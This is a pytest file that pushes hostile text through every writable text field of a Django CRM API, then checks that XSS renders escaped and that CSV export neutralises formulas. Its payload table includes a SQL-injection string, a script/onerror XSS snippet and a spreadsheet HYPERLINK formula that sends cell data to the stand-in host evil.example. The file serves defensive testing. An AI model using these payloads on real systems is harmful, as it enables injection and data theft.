"""Hostile text on every text field of every API write (issue 15, "tests that a trusted system runs"): injection,
XSS, CSV-formula, 10k-character, emoji and null-byte payloads are stored verbatim or refused with a 400 naming the
field, never a 5xx; rendered escaped on the customer page; neutralised in the CSV export.

Discovery, not a list: every POST/PUT/PATCH operation of the OpenAPI schema (drf-spectacular) with writable
top-level string fields (free text: no enum, no format) is one test case. Its URL comes from the URL resolver with
the isolation world objects (`<app>/tests/isolation.py`); a valid body is built from the request schema (required
fields, enum values, dates, ids of world objects). One request carries a different payload in each text field and
the payloads rotate over six rounds, so every field sees every payload with six writes per endpoint (a field that
refuses its payload with a 400 gets a plain value and the request is sent again). After each 2xx the object is read
back (GET of the object when the API has one, else the write's answer) and every field must hold its payload
exactly.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from itertools import count

import pytest
from django.test import Client

from accounts.tenancy import tenant_scope
from crm_project.testing import (
    ROUTE_BODIES,
    ROUTE_KWARGS,
    World,
    api_client_for,
    iter_routes,
    load_route_registries,
)

PAYLOADS = {
    "injection": "x'); DROP TABLE customers;-- \" OR '1'='1' /* ${7*7} {{7*7}} %s",
    "xss": '<script>alert("xss")</script><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "long": "长" * 5000 + "x" * 5000,
    "emoji": "客户 😀👍🏽👨‍👩‍👧 ok",
    "null": "nul\x00byte",
}
NAMES = list(PAYLOADS)

# Operations that are not walked, each with the reason (the walk fails when one disappears from the schema).
NOT_WALKED = {
    "POST /api/v1/auth/token": "sign-in: the strings are credentials, answered 400/401 (lockout walk elsewhere)",
    "POST /api/v1/auth/token/refresh": "the string is a refresh token (JWT walk in test_auth_trusted.py)",
    "POST /api/v1/auth/logout": "the string is a refresh token (JWT walk in test_auth_trusted.py)",
    "POST /api/v1/communications/analyze": "analyses text without storing it (the no-5xx check still runs)",
}
# Fields whose text is not read back under the same name, each with the reason.
NOT_READ_BACK: dict[str, str] = {}


def _draft_contract(world):
    from contracts import services

    return services.contract_create(
        actor=world.owner,
        customer=world["customer"],
        data={"contract_name": "Walk draft", "contract_amount": 1000, "start_date": datetime.date(2026, 1, 1),
              "end_date": datetime.date(2026, 12, 31)},
    ).pk  # fmt: skip


def _change_by_someone_else(world):
    from accounts.tests.factories import UserFactory
    from contracts import services

    requester = UserFactory(
        tenant=world.tenant, username=f"walk-requester-{next(_TENANTS)}", role="tenant_admin", password=None
    )
    return services.change_request_create(
        actor=requester, contract=world["contract"], changes={"contract_name": "Walk renamed"}, reason="walk"
    ).pk


# URL objects other than the world's, per operation (e.g. only a draft contract is edited directly; a change request
# is decided by someone other than its requester).
URL_OBJECTS = {
    "POST /api/v1/change-requests/{change_id}/approve": {"change_id": _change_by_someone_else},
    "POST /api/v1/change-requests/{change_id}/reject": {"change_id": _change_by_someone_else},
    "PUT /api/v1/contracts/{contract_id}": {"contract_id": _draft_contract},
    "PATCH /api/v1/contracts/{contract_id}": {"contract_id": _draft_contract},
}
# Request fields the schema leaves optional that a valid body needs, per operation.
EXTRA_FIELDS = {
    "POST /api/v1/contracts": {"customer_id": lambda world: world["customer"].pk},
    "POST /api/v1/contracts/{contract_id}/change-requests": {"changes": lambda world: {"contract_name": "Walk v2"}},
    "POST /api/v1/customers/{customer_id}/service-records": {"status": lambda world: "open"},
    "POST /api/v1/privacy/requests": {"kind": lambda world: "export", "contact_id": lambda world: world["contact"].pk},
    "POST /api/v1/segments": {
        "rules": lambda world: {"op": "and", "conditions": [{"field": "health_score", "operator": "gte", "value": 0}]}
    },
}
# A field read back under another name, per operation.
FIELD_ALIASES = {
    "POST /api/v1/contracts/{contract_id}/terminate reason": "terminated_reason",
    "POST /api/v1/level-suggestions/{suggestion_id}/reject note": "decision_note",
    "POST /api/v1/change-requests/{change_id}/approve note": "decision_note",
    "POST /api/v1/change-requests/{change_id}/reject note": "decision_note",
}


def _schema() -> dict:
    from drf_spectacular.generators import SchemaGenerator

    return SchemaGenerator().get_schema(request=None, public=True)


def _resolve(schema: dict, node: dict) -> dict:
    while "$ref" in node:
        node = schema["components"]["schemas"][node["$ref"].rsplit("/", 1)[-1]]
    if "allOf" in node and len(node["allOf"]) == 1:
        return _resolve(schema, node["allOf"][0])
    return node


def _is_free_text(prop: dict) -> bool:
    return prop.get("type") == "string" and not prop.get("enum") and not prop.get("format") and not prop.get("readOnly")


def _operations():
    schema = _schema()
    found = []
    for path, item in schema["paths"].items():
        for method, operation in item.items():
            if method not in ("post", "put", "patch"):
                continue
            body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
            if not body:
                continue
            request_schema = _resolve(schema, body)
            texts = [name for name, prop in request_schema.get("properties", {}).items() if _is_free_text(prop)]
            if texts:
                found.append((f"{method.upper()} {path}", request_schema, texts))
    return schema, found


SCHEMA, OPERATIONS = _operations()
_ROUTE_PARAM = re.compile(r"<(?:\w+:)?(\w+)>")


def _route_for(path: str):
    for route in iter_routes():
        if not route.regex and "/" + _ROUTE_PARAM.sub(r"{\1}", route.template) == path:
            return route
    raise LookupError(path)


def _has_get(path: str) -> bool:
    return "get" in SCHEMA["paths"].get(path, {})


class BodyBuilder:
    """A valid value for each property of a request schema, from the schema and the world objects."""

    def __init__(self, world: World):
        self.world = world
        self.serial = count(1)

    def object_id(self, name: str):
        key = name if name.endswith("_id") else f"{name}_id"
        if key in ROUTE_KWARGS:
            source = ROUTE_KWARGS[key]
            return source(self.world) if callable(source) else self.world[source].pk
        if any(part in name for part in ("manager", "owner", "assignee", "user", "assigned")):
            return self.world.owner.pk
        return None

    def value(self, name: str, prop: dict):
        prop = _resolve(SCHEMA, prop)
        kind = prop.get("type")
        if "enum" in prop:
            values = [v for v in prop["enum"] if v not in (None, "")]
            return values[0] if values else ""
        if "oneOf" in prop or "anyOf" in prop:
            options = [_resolve(SCHEMA, o) for o in prop.get("oneOf", prop.get("anyOf"))]
            # Drop the `null` type and the blank/null enums drf-spectacular adds for optional choices.
            options = [
                o
                for o in options
                if o.get("type") != "null" and not ("enum" in o and all(v in (None, "") for v in o["enum"]))
            ]
            return self.value(name, options[0]) if options else None
        if kind == "string":
            serial = next(self.serial)
            fmt = prop.get("format")
            if fmt == "date":
                days = 400 if "end" in name or "expire" in name else 30
                return (datetime.date.today() + datetime.timedelta(days=days)).isoformat()
            if fmt == "date-time":
                return datetime.datetime.now().strftime("%Y-%m-%d %H:%M:%S")
            if fmt == "email":
                return f"walk{serial}@example.com"
            if fmt == "uri":
                return f"https://hooks.example.com/walk/{serial}"
            if fmt == "decimal" or "decimal" in (prop.get("pattern") or "") or name.endswith("amount"):
                return "100.00"
            if name in ("mobile",):
                return f"1381234{serial:04d}"
            if name in ("phone",):
                return f"010-6234{serial:04d}"
            if name == "currency":
                return "CNY"
            return f"Walk {name} {serial}"
        if kind == "integer":
            found = self.object_id(name)
            if found is not None:
                return found
            minimum = prop.get("minimum", 1)
            return max(int(minimum), 1) if prop.get("maximum", 10**9) >= 1 else int(minimum)
        if kind == "number":
            return 1
        if kind == "boolean":
            return False
        if kind == "array":
            if prop.get("minItems"):
                return [self.value(name, prop.get("items", {}))]
            return []
        if kind == "object" or "properties" in prop:
            return self.body(prop)
        return None

    def body(self, schema: dict, *, include: list[str] = ()) -> dict:
        required = set(schema.get("required", []))
        result = {}
        for name, prop in schema.get("properties", {}).items():
            if prop.get("readOnly") or (name not in required and name not in include):
                continue
            result[name] = self.value(name, prop)
        return result


def _refused_fields(response) -> set[str]:
    if response.status_code != 400:
        return set()
    data = response.json().get("data") or {}
    return {key.split("[")[0].split(".")[0] for key in (data.get("errors") or {})} | (
        {data["field"]} if isinstance(data.get("field"), str) else set()
    )


def _object_data(response) -> dict:
    data = response.json().get("data")
    return data if isinstance(data, dict) else {}


class Walk:
    def __init__(self, owner, label: str, request_schema: dict, texts: list[str]):
        self.owner = owner
        self.label = label
        self.method, self.path = label.split(" ", 1)
        self.route = _route_for(self.path)
        self.request_schema = request_schema
        self.texts = texts
        self.api = api_client_for(owner)
        self.api.raise_request_exception = False
        self.api.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
        self.new_world()

    def new_url_objects(self) -> bool:
        """Only the overridden URL objects again (cheaper than a fresh tenant); False when there are none."""
        if self.label not in URL_OBJECTS:
            return False
        self.new_world(keep_world=True)
        return True

    def new_world(self, *, fresh_tenant: bool = False, keep_world: bool = False):
        """The world objects of the URL; a fresh tenant gives new ones without clashing with the first world's."""
        if fresh_tenant:
            from accounts.models import Tenant
            from accounts.tests.factories import UserFactory

            serial = next(_TENANTS)
            tenant = Tenant.objects.create(name=f"Walk tenant {serial}")
            self.owner = UserFactory(
                tenant=tenant, username=f"walk-owner-{serial}", role="tenant_admin", is_staff=True, password=None
            )
            self.api = api_client_for(self.owner)
            self.api.raise_request_exception = False
            self.api.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
        if not keep_world:
            self.world = World(self.owner.tenant, self.owner)
            self.builder = BodyBuilder(self.world)
        overrides = URL_OBJECTS.get(self.label, {})
        with tenant_scope(self.owner.tenant):
            values = {
                kwarg: overrides[kwarg](self.world) if kwarg in overrides else self.route.kwarg_value(kwarg, self.world)
                for kwarg in self.route.kwargs
            }
        self.url = "/" + _ROUTE_PARAM.sub(lambda match: str(values[match.group(1)]), self.route.template)

    def send(self, body: dict):
        call = getattr(self.api, self.method.lower())
        response = call(self.url, body, format="json")
        assert response.status_code < 500, f"{self.method} {self.url}: {response.status_code} {response.content[:500]}"
        assert response["Content-Type"].startswith("application/json"), f"{self.method} {self.url}: not the envelope"
        return response

    def base_body(self) -> dict:
        if self.method == "PATCH":
            return {}
        body = {
            **self.builder.body(self.request_schema, include=self.texts),
            **ROUTE_BODIES.get(f"{self.route.url_name}.{self.method}", {}),
        }
        with tenant_scope(self.owner.tenant):
            body.update({name: make(self.world) for name, make in EXTRA_FIELDS.get(self.label, {}).items()})
        return body

    def read_back(self, response) -> dict:
        written = _object_data(response)
        if self.method in ("PUT", "PATCH") and _has_get(self.path):
            return _object_data(self.api.get(self.url))
        id_value = next((written[k] for k in ("id", *_id_keys(self.path)) if written.get(k) is not None), None)
        detail = next(
            (
                p
                for p in SCHEMA["paths"]
                if p.startswith(self.path + "/{") and p.count("/") == self.path.count("/") + 1 and _has_get(p)
            ),
            None,
        )
        if detail is not None and id_value is not None:
            return _object_data(self.api.get(self.url + f"/{id_value}"))
        return written


_TENANTS = count(1)


def _id_keys(path: str) -> list[str]:
    """The id keys a created object may answer with: `customer_id` for `/customers`, from the detail route's name."""
    keys = []
    for candidate in SCHEMA["paths"]:
        if candidate.startswith(path + "/{") and candidate.count("/") == path.count("/") + 1:
            keys.append(candidate.rsplit("{", 1)[-1].rstrip("}"))
    return keys


def _find(data, field: str, depth: int = 0):
    """The value of `field` in the object's data, also inside a wrapper such as `customer_info`."""
    if isinstance(data, dict):
        if field in data:
            return True, data[field]
        if depth < 2:
            for value in data.values():
                found, inner = _find(value, field, depth + 1)
                if found:
                    return found, inner
    return False, None


def _round(walk: Walk, rotation: int, report: dict) -> None:
    hostile = {field: NAMES[(index + rotation) % len(NAMES)] for index, field in enumerate(walk.texts)}
    for attempt in range(len(walk.texts) + 2):
        body = {**walk.base_body(), **{field: PAYLOADS[name] for field, name in hostile.items()}}
        response = walk.send(body)
        if response.status_code < 300:
            stored = walk.read_back(response)
            for field, name in hostile.items():
                key = f"{walk.method} {walk.path} {field}"
                if key in NOT_READ_BACK:
                    continue
                found, value = _find(stored, FIELD_ALIASES.get(key, field))
                assert found, f"{key}: {field} is not read back; add it to NOT_READ_BACK with the reason"
                assert value == PAYLOADS[name], f"{key}: the {name} payload is not stored verbatim: {value!r:.200}"
                report["stored"].add((field, name))
            return
        refused = _refused_fields(response) & set(hostile)
        if response.status_code == 400 and refused:
            for field in refused:  # refused with the field named: fine, try the others again with a plain value
                report["refused"].add((field, hostile.pop(field)))
            if not hostile:
                return
            continue
        if attempt == 0 and walk.route.kwargs:
            walk.new_url_objects() or walk.new_world(
                fresh_tenant=True
            )  # an action that cannot run twice on one object: a fresh object
            continue
        raise AssertionError(
            f"{walk.method} {walk.url} with {hostile}: {response.status_code} {response.content[:400]!r} "
            "(expected 2xx, or 400 naming the field)"
        )


@pytest.fixture
def walk_setup(monkeypatch, settings, tmp_path):
    load_route_registries()
    settings.CRM_DATA_DIR = tmp_path
    settings.WEBHOOKS_ALLOW_PRIVATE_TARGETS = False
    monkeypatch.setattr("crm_project.api.throttling._WindowThrottle.allow_request", lambda self, request, view: True)


def test_every_operation_is_walked_or_listed():
    labels = {label for label, _schema, _texts in OPERATIONS}
    assert len(labels) > 30
    for label in NOT_WALKED:
        assert label in labels, f"{label} is listed in NOT_WALKED but no longer exists: remove it"


@pytest.mark.parametrize(
    ("label", "request_schema", "texts"), OPERATIONS, ids=[label for label, _schema, _texts in OPERATIONS]
)
def test_hostile_text_is_stored_verbatim_or_refused_by_name(owner, walk_setup, label, request_schema, texts):
    walk = Walk(owner, label, request_schema, texts)
    if label in NOT_WALKED:
        for payload in PAYLOADS.values():
            walk.send({**walk.base_body(), **dict.fromkeys(texts, payload)})  # never a 5xx
        return
    baseline = walk.send(walk.base_body())
    assert baseline.status_code < 300, f"{label}: the built body is refused: {baseline.content[:600]!r}"
    report = {"stored": set(), "refused": set()}
    for rotation in range(len(NAMES)):
        _round(walk, rotation, report)
    # Every field took at least the ordinary hostile texts (a field may refuse what its format forbids).
    for field in texts:
        taken = {name for stored_field, name in report["stored"] if stored_field == field}
        refused = {name for refused_field, name in report["refused"] if refused_field == field}
        assert taken | refused == set(NAMES), f"{label} {field}: {taken=} {refused=}"


# --- Rendered escaped, exported neutralised -------------------------------------------------------------------------
def test_customer_and_contact_pages_show_the_payloads_escaped(owner, walk_setup):
    api = api_client_for(owner)
    xss = PAYLOADS["xss"]
    created = api.post(
        "/api/v1/customers",
        {"customer_name": xss, "industry": xss, "address": xss, "description": xss},
        format="json",
    )
    assert created.status_code == 201, created.content
    customer_id = created.json()["data"]["customer_id"]
    contact = api.post(
        f"/api/v1/customers/{customer_id}/contacts",
        {"contact_name": xss, "position": xss, "department": xss, "wechat": "wx" + xss[:40]},
        format="json",
    )
    assert contact.status_code == 201, contact.content
    client = Client()
    client.force_login(owner)
    escaped = "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;"
    for url in (f"/customers/{customer_id}/", f"/customers/{customer_id}/?tab=contacts", "/customers/"):
        page = client.get(url)
        assert page.status_code == 200, url
        html = page.content.decode()
        assert "<script>alert(" not in html and "onerror=alert(1)>" not in html, url
        assert escaped in html, url


def test_csv_export_neutralises_formula_payloads(owner, walk_setup, monkeypatch):
    monkeypatch.setattr("accounts.stepup.needs_step_up", lambda request: False)
    api = api_client_for(owner)
    formula = PAYLOADS["formula"]
    for text in (formula, "+1+1", "-2+3", "@SUM(A1)"):
        response = api.post("/api/v1/customers", {"customer_name": f"{text}", "industry": text}, format="json")
        assert response.status_code == 201, response.content
    client = Client()
    client.force_login(owner)
    export = client.get("/customers/export/?format=csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    for text in (formula, "+1+1", "-2+3", "@SUM(A1)"):
        assert f"'{text}" in cells and text not in cells, text
